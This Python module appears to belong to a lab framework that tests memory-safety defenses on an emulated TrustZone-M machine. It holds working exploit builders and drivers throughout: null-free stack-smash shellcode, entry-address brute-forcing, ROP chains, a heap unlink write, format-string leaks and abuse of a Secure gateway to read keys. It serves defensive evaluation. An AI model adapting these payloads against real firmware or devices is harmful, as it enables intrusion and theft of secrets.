"""Payload construction and attack drivers.

Builders are pure byte-level functions with hard validation: anything
that would die quietly inside the victim (a null byte crossing strcpy,
a gadget that cannot steer control, a heap offset that misses the
neighbouring chunk) is rejected while it is still cheap to see why.
Drivers deliver payloads over the console devices, run the machine,
and classify what happened from the attacker's side of the fence.
"""

from __future__ import annotations

import random
import re
import struct
from dataclasses import dataclass, field
from enum import Enum

from . import isa, scanner, victims
from .asm import AsmProgram, assemble
from .machine import FaultKind, RunResult
from .memory import Kind
from .victims import GADGETS_BASE, call_function, returned_ok

INJECT_MARKER = b"PWNED-TZM"
ROP_MARKER = b"ROP-CHAIN-OK"
HEAP_MARKER = b"HEAP-PWN"

# saved r4-r7 sit between the overflowed buffer and the return slot
SAVED_REGS_SPAN = 16
# push {r4-r7, lr} at function entry
FRAME_PUSH_SPAN = 20

FILLER_SEED = 0x51ED
M32 = 0xFFFFFFFF


class PayloadError(ValueError):
    pass


class NullByteError(PayloadError):
    def __init__(self, offsets):
        self.offsets = list(offsets)
        super().__init__(
            "payload would not survive strcpy: null bytes at offsets "
            + ", ".join(str(o) for o in self.offsets))


class LayoutError(PayloadError):
    pass


class ChainError(PayloadError):
    pass


class GeometryError(PayloadError):
    pass


class ParseError(ValueError):
    pass


class Exhausted(RuntimeError):
    def __init__(self, message, attempts=0):
        super().__init__(message)
        self.attempts = attempts


class Blocked(RuntimeError):
    pass


class Layout(Enum):
    CLASSIC = "classic"
    ENTRY_AT_BOTTOM = "entry_at_bottom"


@dataclass(frozen=True)
class Payload:
    data: bytes
    layout: Layout | None
    meta: dict = field(default_factory=dict)

    def __len__(self):
        return len(self.data)


# --- stack smash ---------------------------------------------------------

def _ret_slot_offset(buffer_len):
    return buffer_len + SAVED_REGS_SPAN


def marker_shellcode(buffer_len, sled_len, *, message_len=len(INJECT_MARKER),
                     print_entry=0x8001) -> AsmProgram:
    """Position-independent payload body: pivots SP down into the spent
    sled so the callee's stack frames cannot chew up the payload tail,
    then prints the marker string that sits just below the return slot.

    The print routine's address is rebuilt from an 8-bit seed by
    repeated doubling because its literal encoding would need bytes the
    copy loop rejects.
    """
    if print_entry != 0x8001:
        raise LayoutError("shellcode only knows how to build 0x8001")
    sled_bytes = 2 * sled_len
    drop = buffer_len + FRAME_PUSH_SPAN - sled_bytes
    # mov r5, pc reads instruction address + 4; the mov is the fourth
    # halfword of the shellcode
    delta = _ret_slot_offset(buffer_len) - message_len - (sled_bytes + 10)
    if not 1 <= drop <= 255:
        raise LayoutError(f"sp pivot of {drop} not encodable; resize the sled")
    if not 1 <= delta <= 255:
        raise LayoutError(f"message displacement {delta} not encodable")
    body = "\n".join(
        ["shell_entry:",
         "    mov r4, sp",
         f"    subs r4, #{drop}",
         "    mov sp, r4",
         "    mov r5, pc",
         f"    adds r5, #{delta}",
         "    movs r4, #128"]
        + ["    adds r4, r4, r4"] * 8
        + ["    adds r4, #1",
           "    mov r0, r5",
           "    blx r4",
           "    bkpt #1"])
    return assemble(body, 0)


def _nop_sled(sled_len):
    sub = isa.substitute_null_free(isa.Nop())
    unit = b"".join(i.encode() for i in sub.instructions)
    return unit * sled_len


def build_injection_payload(shellcode: AsmProgram, buffer_len, entry_addr,
                            sled_len=50, layout=Layout.ENTRY_AT_BOTTOM, *,
                            message=INJECT_MARKER, delivery="line",
                            expected_upper=0x2000,
                            seed=FILLER_SEED) -> Payload:
    """Assemble the overflow image: sled, shellcode, filler, marker
    string, then the entry that lands on the return slot.

    EntryAtBottom writes only the slot's low halfword and borrows the
    high half from the saved return address, which must already point
    into the same 64K window; that keeps the payload free of the bytes
    a string copy would truncate on.
    """
    sled = _nop_sled(sled_len)
    shell = bytes(shellcode.data)
    ret_off = _ret_slot_offset(buffer_len)
    msg_off = ret_off - len(message)
    filler_len = msg_off - len(sled) - len(shell)
    if filler_len < 0:
        raise LayoutError(
            f"sled and shellcode span {len(sled) + len(shell)} bytes, "
            f"buffer geometry allows {msg_off}")
    rng = random.Random(seed)
    filler = bytes(rng.randrange(0x41, 0x5B) for _ in range(filler_len))
    if layout is Layout.ENTRY_AT_BOTTOM:
        if (entry_addr >> 16) & 0xFFFF != expected_upper:
            raise LayoutError(
                f"entry 0x{entry_addr:08x} is outside the 0x{expected_upper:04x} "
                "window the saved return address provides")
        tail = struct.pack("<H", (entry_addr | 1) & 0xFFFF)
    else:
        tail = struct.pack("<I", (entry_addr | 1) & M32)
    data = sled + shell + filler + message + tail
    if delivery == "line":
        allowed = {len(data) - 2, len(data) - 1} \
            if layout is Layout.ENTRY_AT_BOTTOM else set()
        offenders = [o for o in isa.null_byte_positions(data)
                     if o not in allowed]
        if offenders:
            raise NullByteError(offenders)
        if b"\n" in data:
            raise PayloadError("payload contains the line terminator")
    return Payload(data, layout, {
        "sled_len": sled_len,
        "entry_addr": entry_addr,
        "shellcode_span": (len(sled), len(sled) + len(shell)),
        "message_off": msg_off,
        "ret_slot_off": ret_off,
    })


def injection_payload(buffer_len, entry_addr, *, sled_len=50,
                      layout=Layout.ENTRY_AT_BOTTOM, message=INJECT_MARKER,
                      delivery="line", seed=FILLER_SEED) -> Payload:
    shell = marker_shellcode(buffer_len, sled_len, message_len=len(message))
    return build_injection_payload(shell, buffer_len, entry_addr, sled_len,
                                   layout, message=message, delivery=delivery,
                                   seed=seed)


# --- entry scanning ------------------------------------------------------

@dataclass(frozen=True)
class ScanResult:
    entry: int
    attempts: int

    def as_dict(self):
        return {"entry": self.entry, "attempts": self.attempts}


def first_scan_hit(window_start, stride, buf, sled_bytes):
    """Pure model of the entry scan: 1-based index of the first
    candidate landing inside [buf, buf + sled_bytes], or None.

    Candidates below the buffer jump into stale stack; anything from
    the sled start through the shellcode entry works, since the sled
    only exists to make the landing zone wide.
    """
    attempt = 0
    addr = window_start
    while addr <= buf + sled_bytes:
        attempt += 1
        if addr >= buf:
            return attempt
        addr += stride
    return None


def scan_entry(profile, payload_template, span, stride=2, *,
               budget=12_000, image=None, marker=INJECT_MARKER):
    """Brute-force the hidden payload address: rebuild the payload for
    each candidate entry, warm-restart the victim, and watch the
    console for the marker. payload_template maps an entry address to
    a Payload."""
    if image is None:
        image = victims.build(profile)
    machine = image.machine
    lo, hi = span
    attempts = 0
    for addr in range(lo, hi, stride):
        attempts += 1
        payload = payload_template(addr)
        image.reset()
        _drain(machine)
        machine.uart_ns.feed(payload.data + b"\n")
        machine.run(budget)
        if marker in bytes(machine.uart_ns.tx):
            return ScanResult(entry=addr, attempts=attempts)
    raise Exhausted(
        f"no marker in [0x{lo:08x}, 0x{hi:08x}) after {attempts} attempts",
        attempts)


def find_jmp_sp(image) -> list:
    """Stack-pointer branches anywhere in the image's executable
    memory; one of these would spare the attacker the whole scan."""
    out = []
    for region in image.mem.regions:
        if region.kind is Kind.MMIO or not region.x:
            continue
        out.extend(scanner.find_jmp_sp(bytes(region.data), region.base))
    return out


# --- return-oriented chains ----------------------------------------------

@dataclass(frozen=True)
class GadgetFrame:
    words: tuple
    pops_into: tuple

    def __post_init__(self):
        if len(self.words) != len(self.pops_into):
            raise ChainError(
                f"frame carries {len(self.words)} words for "
                f"{len(self.pops_into)} pops")


@dataclass(frozen=True)
class RopChain:
    entry: int
    frames: tuple


def build_rop_chain(descriptors, register_seeds, *, fill_len,
                    fill=b"B") -> tuple:
    """descriptors: (entry, final-pop register list) per gadget, the
    last one terminal (it ends the chain and gets no frame).
    register_seeds: one dict per non-terminal gadget naming the words
    its data pops should receive; the control word is wired to the next
    gadget automatically."""
    if len(descriptors) < 1:
        raise ChainError("a chain needs at least a terminal gadget")
    if len(register_seeds) != len(descriptors) - 1:
        raise ChainError(
            f"{len(descriptors) - 1} gadget frames need seeds, got "
            f"{len(register_seeds)}")
    frames = []
    for i, ((entry, pops), seeds) in enumerate(
            zip(descriptors[:-1], register_seeds)):
        pops = tuple(pops)
        if "pc" not in pops:
            raise ChainError(
                f"gadget 0x{entry:08x} pops {pops or '()'} and cannot "
                "steer the chain")
        data_regs = tuple(r for r in pops if r != "pc")
        if set(seeds) != set(data_regs):
            raise ChainError(
                f"gadget 0x{entry:08x} pops {data_regs}, seeds name "
                f"{tuple(sorted(seeds))}")
        next_entry = (descriptors[i + 1][0] | 1) & M32
        words = tuple(seeds[r] & M32 for r in data_regs) + (next_entry,)
        frames.append(GadgetFrame(words, pops))
    chain = RopChain(entry=descriptors[0][0] | 1, frames=tuple(frames))
    body = struct.pack("<I", chain.entry) + b"".join(
        struct.pack("<%dI" % len(f.words), *f.words) for f in frames)
    data = fill * fill_len + body
    payload = Payload(data, Layout.CLASSIC, {
        "sled_len": 0,
        "frames": [list(f.words) for f in frames],
        "shellcode_span": (0, 0),
    })
    return chain, payload


# --- heap overflows ------------------------------------------------------

FD_OFFSET = 8
BK_OFFSET = 12


@dataclass(frozen=True)
class FnPtrOverwrite:
    slot_offset: int
    target: int


@dataclass(frozen=True)
class Unlink:
    where: int
    what: int


def build_heap_overflow(mode) -> Payload:
    if isinstance(mode, FnPtrOverwrite):
        if mode.slot_offset <= 0 or mode.slot_offset % 4:
            raise GeometryError(
                f"slot offset {mode.slot_offset} does not land on a "
                "heap word")
        if (mode.target >> 16) & 0xFFFF:
            raise GeometryError(
                f"target 0x{mode.target:08x} needs its high halfword "
                "rewritten, which the string copy cannot deliver")
        data = (b"A" * mode.slot_offset
                + struct.pack("<H", (mode.target | 1) & 0xFFFF))
        return Payload(data, Layout.ENTRY_AT_BOTTOM, {
            "sled_len": 0, "entry_addr": mode.target,
            "shellcode_span": (0, 0)})
    if isinstance(mode, Unlink):
        if mode.where % 4:
            raise GeometryError(f"unlink target 0x{mode.where:08x} "
                                "must be word aligned")
        # forged successor chunk: clear busy bit, believable size, and
        # link fields arranged so unlinking writes what into where
        data = (b"C" * 16
                + struct.pack("<II", 0, 24)
                + struct.pack("<II", (mode.where - BK_OFFSET) & M32,
                              mode.what & M32))
        return Payload(data, Layout.CLASSIC, {
            "sled_len": 0, "shellcode_span": (0, 0),
            "mirror_write": (mode.what + FD_OFFSET) & M32})
    raise GeometryError(f"unknown heap overflow mode {mode!r}")


# --- format string -------------------------------------------------------

def build_format_leak(n_words) -> Payload:
    if n_words < 0:
        raise PayloadError("cannot leak a negative number of words")
    data = b" ".join([b"%08x"] * n_words)
    return Payload(data, None, {"sled_len": 0, "shellcode_span": (0, 0),
                                "n_words": n_words})


_LEAK_RE = re.compile(rb"\b[0-9a-f]{8}\b")


def parse_leak(uart_bytes) -> list:
    """Invert the guest's %08x rendering. Empty output is an empty
    leak; output with no recoverable words is malformed."""
    raw = bytes(uart_bytes)
    if not raw:
        return []
    words = [int(m, 16) for m in _LEAK_RE.findall(raw)]
    if not words:
        raise ParseError(f"no words recoverable from {raw!r}")
    return words


# --- gateway abuse -------------------------------------------------------

@dataclass(frozen=True)
class NscRead:
    secure_addr: int
    n: int = 1


@dataclass(frozen=True)
class NscWrite:
    secure_addr: int
    value: int


OUT_SENTINEL = 0x55AA55AA


def drive_nsc_exploit(image, mode, *, budget=400_000):
    """Abuse the pointer-taking gateway service from the Non-secure
    side. Read pulls Secure words one at a time through the output
    argument; Write points the output argument into Secure memory.
    Raises Blocked when the hardened veneer turns the call away."""
    out_cell = image.symbols["out_cell"]
    if isinstance(mode, NscRead):
        observed = []
        for i in range(mode.n):
            image.poke_word(out_cell, OUT_SENTINEL)
            res = call_function(image, "nsc_func",
                               (mode.secure_addr + 4 * i, 1, out_cell),
                               budget=budget)
            if not returned_ok(res):
                raise PayloadError(f"gateway call did not return: {res}")
            r0 = image.machine.get_reg(0)
            if r0 == M32 and image.peek_word(out_cell) == OUT_SENTINEL:
                raise Blocked("gateway rejected the Secure read")
            observed.append(image.peek_word(out_cell))
        return observed
    if isinstance(mode, NscWrite):
        val_cell = image.symbols["val_cell"]
        before = image.peek_word(mode.secure_addr)
        image.poke_word(val_cell, mode.value)
        res = call_function(image, "nsc_func",
                           (val_cell, 1, mode.secure_addr), budget=budget)
        if not returned_ok(res):
            raise PayloadError(f"gateway call did not return: {res}")
        after = image.peek_word(mode.secure_addr)
        if image.machine.get_reg(0) == M32 and after == before:
            raise Blocked("gateway rejected the Secure write")
        return after
    raise PayloadError(f"unknown gateway mode {mode!r}")


# --- drivers and classification ------------------------------------------

@dataclass
class AttackReport:
    attack: str
    world: str
    payload_len: int
    success: bool
    outcome: str
    attempts: int | None = None
    leaked: list | None = None
    detail: dict = field(default_factory=dict)

    def as_dict(self):
        out = {"attack": self.attack, "world": self.world,
               "payload_len": self.payload_len, "success": self.success,
               "outcome": self.outcome}
        if self.attempts is not None:
            out["attempts"] = self.attempts
        if self.leaked is not None:
            out["leaked"] = [w & M32 for w in self.leaked]
        return out


def classify_outcome(machine, result: RunResult | None, *, success,
                     refusal=None) -> str:
    """Collapse one attack run to a single label. Control-flow policy
    hits outrank execution faults, which outrank the attack's own idea
    of success; refusal is the defense-specific polite no."""
    if machine.cfi_violation is not None:
        return "cfi_violation"
    fault = result.fault if result is not None else None
    if (fault is not None and fault.kind is FaultKind.MEM
            and "exec permission missing" in fault.detail):
        return "mem_fault"
    if success:
        return "success"
    if refusal is not None:
        return refusal
    return "no_effect"


def _drain(machine):
    for uart in (machine.uart_ns, machine.uart_s):
        if uart is not None:
            uart.rx.clear()
            uart.take_tx()


def _deliver(image, data, *, budget, console="ns", framing="line"):
    machine = image.machine
    image.reset()
    _drain(machine)
    uart = machine.uart_ns if console == "ns" else machine.uart_s
    if framing == "line":
        uart.feed(bytes(data) + b"\n")
    else:
        uart.feed(struct.pack("<H", len(data)) + bytes(data))
    result = machine.run(budget)
    tx = uart.take_tx()
    return result, tx


def run_injection(image, *, entry=None, sled_len=50,
                  budget=200_000, seed=FILLER_SEED) -> AttackReport:
    entry = image.meta["inject_buf"] if entry is None else entry
    payload = injection_payload(image.meta["buffer_len"], entry,
                                sled_len=sled_len, seed=seed)
    result, tx = _deliver(image, payload.data, budget=budget)
    success = INJECT_MARKER in tx
    outcome = classify_outcome(image.machine, result, success=success)
    return AttackReport("injection", image.meta["world"], len(payload),
                        success, outcome,
                        detail={"tx": tx, "result": result,
                                "payload": payload})


def scan_injection(image, *, sled_len=50, stride=2, span=None,
                   budget=12_000) -> AttackReport:
    """Injection without the oracle address: brute-force the entry over
    the live stack window."""
    buffer_len = image.meta["buffer_len"]
    if span is None:
        top = victims.SP_NS_TOP
        span = (top - 0x200, top)

    def template(addr):
        return injection_payload(buffer_len, addr, sled_len=sled_len)

    try:
        hit = scan_entry(None, template, span, stride,
                         budget=budget, image=image)
    except Exhausted as e:
        return AttackReport("injection", image.meta["world"], 0, False,
                            "no_effect", attempts=e.attempts,
                            detail={"error": str(e)})
    payload = template(hit.entry)
    return AttackReport("injection", image.meta["world"], len(payload),
                        True, "success", attempts=hit.attempts,
                        detail={"entry": hit.entry})


def discover_demo_chain(image, *, junk=0x42424242):
    """Scanner-driven chain against the stock gadget bank: load r5 with
    the message address, move it to r0, land on the printer."""
    region = image.mem.region("ns_flash")
    window = bytes(region.data[GADGETS_BASE - region.base:
                               GADGETS_BASE - region.base + 0x300])
    gadgets = scanner.find_gadgets(window, GADGETS_BASE, max_len=2)
    loader = next((g for g in gadgets
                   if g.pop_effect == ("r4", "r5", "pc")), None)
    mover = next((g for g in gadgets
                  if g.text and g.text[0] == "mov r0, r5"), None)
    if loader is None or mover is None:
        raise ChainError("expected reuse gadgets not found in the image")
    printer = image.symbols["_g_printer"]
    descriptors = [(loader.entry, loader.pop_effect),
                   (mover.entry, mover.pop_effect),
                   (printer, ())]
    seeds = [{"r4": junk, "r5": image.symbols["rop_msg"]},
             {"r4": junk}]
    return build_rop_chain(descriptors, seeds, fill_len=72)


def run_rop(image, *, budget=200_000, junk=0x42424242) -> AttackReport:
    chain, payload = discover_demo_chain(image, junk=junk)
    result, tx = _deliver(image, payload.data, budget=budget,
                          framing="blob")
    success = ROP_MARKER in tx
    outcome = classify_outcome(image.machine, result, success=success)
    return AttackReport("rop", image.meta["world"], len(payload), success,
                        outcome, detail={"tx": tx, "result": result,
                                         "chain": chain})


def run_heap_fnptr(image, *, target=None, budget=200_000) -> AttackReport:
    target = image.symbols["blob_entry"] if target is None else target
    lo, hi = image.meta["heap_chunks"]
    payload = build_heap_overflow(FnPtrOverwrite(hi - lo, target))
    result, tx = _deliver(image, payload.data, budget=budget)
    success = HEAP_MARKER in tx
    outcome = classify_outcome(image.machine, result, success=success)
    return AttackReport("heap_fnptr", image.meta["world"], len(payload),
                        success, outcome,
                        detail={"tx": tx, "result": result})


def run_heap_unlink(image, *, where=None, what=0xDEADBEEF,
                    budget=200_000) -> AttackReport:
    where = image.symbols["boot_hook"] if where is None else where
    payload = build_heap_overflow(Unlink(where, what))
    result, _ = _deliver(image, payload.data, budget=budget,
                         framing="blob")
    success = image.peek_word(where) == what & M32
    outcome = classify_outcome(image.machine, result, success=success)
    return AttackReport("heap_unlink", image.meta["world"], len(payload),
                        success, outcome,
                        detail={"result": result, "where": where,
                                "written": image.peek_word(where)})


def run_format_leak(image, *, n_words=5, via=None,
                    budget=200_000) -> AttackReport:
    payload = build_format_leak(n_words)
    report_name = "fmt_leak"
    if via is None:
        via = "secure" if image.meta["world"] == "swx" else "ns"
    if via == "nsc_console":
        report_name = "fmt_nsc"
        line_buf = image.symbols["line_buf"]
        image.reset()
        _drain(image.machine)
        image.mem.poke(line_buf, payload.data + b"\x00")
        result = call_function(image, "nsc_secure_console_puts",
                               (line_buf,), budget=budget)
        tx = image.machine.uart_s.take_tx()
    else:
        if via == "secure":
            report_name = "fmt_swx"
        result, tx = _deliver(image, payload.data, budget=budget,
                              console="ns" if via == "ns" else "s")
    frame = (victims.FMT_FRAME["nsc"] if via == "nsc_console"
             else image.meta["fmt_frame"])
    expected = [image.peek_word(frame + 4 * i) for i in range(n_words)]
    try:
        leaked = parse_leak(tx)
    except ParseError:
        leaked = None
    success = leaked is not None and leaked[:n_words] == expected
    refusal = "format_sanitized" if b"%08x" in tx else None
    outcome = classify_outcome(image.machine, result, success=success,
                               refusal=refusal)
    return AttackReport(report_name, image.meta["world"], len(payload),
                        success, outcome, leaked=leaked,
                        detail={"tx": tx, "result": result,
                                "expected": expected})


def run_nsc_read(image, *, addr=None, n=4, budget=400_000) -> AttackReport:
    addr = image.symbols["sec_key"] if addr is None else addr
    expected = [image.peek_word(addr + 4 * i) for i in range(n)]
    try:
        observed = drive_nsc_exploit(image, NscRead(addr, n),
                                     budget=budget)
    except Blocked as e:
        return AttackReport("nsc_leak", image.meta["world"], 12, False,
                            "range_check", detail={"error": str(e)})
    success = observed == expected
    outcome = classify_outcome(image.machine, None, success=success)
    return AttackReport("nsc_leak", image.meta["world"], 12, success,
                        outcome, leaked=observed,
                        detail={"expected": expected})


def run_nsc_write(image, *, addr=None, value=0xFEEDC0DE,
                  budget=400_000) -> AttackReport:
    addr = image.symbols["sec_scratch"] if addr is None else addr
    try:
        after = drive_nsc_exploit(image, NscWrite(addr, value),
                                  budget=budget)
    except Blocked as e:
        return AttackReport("nsc_write", image.meta["world"], 4, False,
                            "range_check", detail={"error": str(e)})
    success = after == value & M32
    outcome = classify_outcome(image.machine, None, success=success)
    return AttackReport("nsc_write", image.meta["world"], 4, success,
                        outcome, detail={"observed": after})


ATTACK_PROFILES = {
    "injection": {"victim": "bof", "world": "nsw"},
    "rop": {"victim": "rop", "world": "nsw"},
    "heap_fnptr": {"victim": "heap", "world": "nsw", "heap": "fnptr"},
    "heap_unlink": {"victim": "heap", "world": "nsw", "heap": "unlink"},
    "fmt_leak": {"victim": "fmt", "world": "nsw"},
    "fmt_swx": {"victim": "fmt", "world": "swx"},
    "fmt_nsc": {"victim": "fmt", "world": "nsw"},
    "nsc_leak": {"victim": "nsc_func", "world": "nsc"},
    "nsc_write": {"victim": "nsc_func", "world": "nsc"},
}

_DRIVERS = {
    "injection": run_injection,
    "rop": run_rop,
    "heap_fnptr": run_heap_fnptr,
    "heap_unlink": run_heap_unlink,
    "fmt_leak": lambda image, **kw: run_format_leak(image, via="ns", **kw),
    "fmt_swx": lambda image, **kw: run_format_leak(image, via="secure", **kw),
    "fmt_nsc": lambda image, **kw: run_format_leak(image, via="nsc_console",
                                                   **kw),
    "nsc_leak": run_nsc_read,
    "nsc_write": run_nsc_write,
}

ATTACK_NAMES = tuple(_DRIVERS)


def run_attack(name, image, **kwargs) -> AttackReport:
    try:
        driver = _DRIVERS[name]
    except KeyError:
        raise PayloadError(f"unknown attack {name!r}; choose from "
                           + ", ".join(ATTACK_NAMES)) from None
    return driver(image, **kwargs)
